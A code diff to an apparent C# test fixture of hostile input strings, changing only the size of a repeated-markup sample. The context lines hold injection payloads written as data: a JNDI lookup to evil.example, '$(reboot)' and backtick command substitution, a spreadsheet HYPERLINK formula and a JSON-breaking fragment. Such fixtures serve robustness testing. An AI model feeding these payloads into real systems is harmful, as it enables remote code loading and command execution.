@@ -24,7 +24,7 @@ internal static class HostileTexts
         ["no characters"] = "\uFFFE\uFFFF\uFDD0",
         ["marks"] = "e" + new string('\u0301', 5_000),
         ["1 MB"] = new string('A', 1_000_000),
-        ["1 MB of markup"] = string.Concat(Enumerable.Repeat("<b>*[&", 170_000)),
+        ["200 KB of markup"] = string.Concat(Enumerable.Repeat("<b>*[&", 34_000)),
         ["placeholders"] = "{0} {count} {{x}} %s %n %00 ${jndi:ldap://evil.example/a} $(reboot) `id`",
         ["a formula"] = "=HYPERLINK(\"http://evil.example\",\"x\")",
         ["JSON"] = "\"},\"at\":{\"isAtAll\":true},\"x\":{\"",
